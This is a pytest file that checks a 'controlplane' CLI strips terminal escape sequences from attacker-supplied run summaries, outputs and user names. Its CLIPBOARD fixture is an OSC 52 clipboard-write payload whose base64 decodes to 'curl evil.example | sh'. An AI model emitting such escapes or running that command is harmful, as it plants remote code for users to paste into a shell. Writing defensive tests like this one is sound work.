"""Text others wrote reaches the operator's terminal without control sequences.

The attacker ingests a CI run, or runs a tool, whose summary and output carry OSC 52
(clipboard write), a title change, a screen clear and a one-byte CSI; the operator then
runs ``controlplane runs list|show|tail``. Only SGR colours survive, and only on a TTY.
"""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest

from controlplane import tracked_run
from controlplane.core.ledger import Ledger
from controlplane.core.terminal import clean

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
TITLE = "\x1b]0;title\x07"
EVIL = f"ok {CLIPBOARD}{TITLE}\x1b[2J\x9b6n done"
COLOURED = "\x1b[31mred\x1b[0m"
FORBIDDEN = (b"\x1b]", b"\x07", b"\x1b[2J", b"\x9b", b"\x1b[6n")


def cli_env(tmp_path: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CONTROLPLANE_")}
    return {**env, "XDG_CONFIG_HOME": str(tmp_path / "xdg")}


def cli_bytes(repo: Path, tmp_path: Path, *args: str) -> bytes:
    """stdout + stderr of a ``controlplane`` command writing to pipes (not a TTY)."""
    done = subprocess.run([sys.executable, "-m", "controlplane", *args, "--repo", str(repo)],
                          capture_output=True, env=cli_env(tmp_path), timeout=120)
    assert done.returncode == 0, done.stderr
    return done.stdout + done.stderr


def cli_on_a_tty(repo: Path, tmp_path: Path, *args: str) -> bytes:
    """What a terminal receives from a ``controlplane`` command (stdout/stderr on a pty)."""
    master, slave = pty.openpty()
    process = subprocess.Popen([sys.executable, "-m", "controlplane", *args],
                               cwd=repo, env=cli_env(tmp_path), stdin=subprocess.DEVNULL,
                               stdout=slave, stderr=slave)
    os.close(slave)
    received = []
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:  # EIO: the child closed its side
            break
        if not chunk:
            break
        received.append(chunk)
    os.close(master)
    assert process.wait(timeout=120) == 0
    return b"".join(received)


@pytest.fixture
def evil_run(repo: Path) -> str:
    """A run whose summary and output carry terminal escapes (as a tool or a push writes)."""
    with tracked_run("test", "test:evil", summary=EVIL, project_root=repo) as run:
        run.output(EVIL)
        run.output(COLOURED)
    recorded = Ledger.open(repo).get(run.run_id)
    assert CLIPBOARD in recorded["summary"]  # the ledger keeps it: printing must clean it
    return run.run_id


def test_the_sanitizer_keeps_sgr_only_on_request() -> None:
    text = f"a{COLOURED}{EVIL}\x1bP1$r\x1b\\ \x1b7\x1b\r\x00\t\n\x7f\x85\x1b[?25l"
    assert clean(text, colour=True) == "a\x1b[31mred\x1b[0mok  done \\x0d\\x00\t\n\\x7f\\x85"
    assert clean(text) == "aredok  done \\x0d\\x00\t\n\\x7f\\x85"
    assert clean("\x1b]52;c;unterminated") == "" and clean("\x9d0;t\x9c x") == " x"
    assert clean("\x1b[38;2;255;0;0mrgb\x1b[m", colour=True) == "\x1b[38;2;255;0;0mrgb\x1b[m"


def test_runs_list_show_tail_print_no_escapes_to_a_pipe(repo: Path, tmp_path: Path,
                                                        evil_run: str) -> None:
    as_text = [("runs", "list"), ("runs", "tail", evil_run)]
    as_json = [("runs", "list", "--json"), ("runs", "show", evil_run),
               ("runs", "show", "--events", evil_run)]  # JSON shows ESC as \u001b
    for args in as_text + as_json:
        out = cli_bytes(repo, tmp_path, *args)
        assert not [f for f in FORBIDDEN if f in out], (args, out)
        assert b"\x1b" not in out, args  # not a TTY: colours go too
        assert args in as_json or b"52;c;" not in out, args  # the payload goes with its OSC
    assert b"ok  done" in cli_bytes(repo, tmp_path, "runs", "list")
    assert b"red" in cli_bytes(repo, tmp_path, "runs", "tail", evil_run)


def test_runs_tail_on_a_tty_keeps_colours_only(repo: Path, tmp_path: Path,
                                              evil_run: str) -> None:
    out = cli_on_a_tty(repo, tmp_path, "runs", "tail", evil_run)
    assert COLOURED.encode() in out
    assert not [f for f in FORBIDDEN if f in out], out
    listed = cli_on_a_tty(repo, tmp_path, "runs", "list")
    assert b"ok  done" in listed and not [f for f in FORBIDDEN if f in listed]


def test_an_ingested_summary_is_cleaned(repo: Path, tmp_path: Path, make_app) -> None:
    app = make_app(SETTINGS={"ingest_token": "ci-only-token-123456"})
    answer = app.test_client().post(
        "/api/runs/ingest", json={"pipeline": "build", "status": "failed", "summary": EVIL},
        headers={"Authorization": "Bearer ci-only-token-123456"})
    assert answer.status_code == 201, answer.get_json()
    out = cli_bytes(repo, tmp_path, "runs", "list")
    assert b"ci:build" in out and not [f for f in FORBIDDEN if f in out], out


def test_exec_shows_its_own_childs_output_unchanged_on_a_tty(repo: Path,
                                                             tmp_path: Path) -> None:
    out = cli_on_a_tty(repo, tmp_path, "exec", "test:colour", "--", sys.executable, "-c",
                       f"print({COLOURED!r})")
    assert COLOURED.encode() in out


def test_users_list_prints_no_escapes_from_a_shared_users_file(repo: Path,
                                                               tmp_path: Path) -> None:
    shared = tmp_path / "team-users.json"  # written by a teammate's tool, not by us
    shared.write_text(json.dumps({"users": {f"eve{TITLE}": {"token_sha256": "0" * 64}}}))
    done = subprocess.run([sys.executable, "-m", "controlplane", "users", "list", "--repo",
                           str(repo)], capture_output=True, timeout=120,
                          env={**cli_env(tmp_path), "CONTROLPLANE_USERS_FILE": str(shared)})
    assert done.returncode == 0 and done.stdout.startswith(b"eve")
    assert not [f for f in FORBIDDEN if f in done.stdout], done.stdout
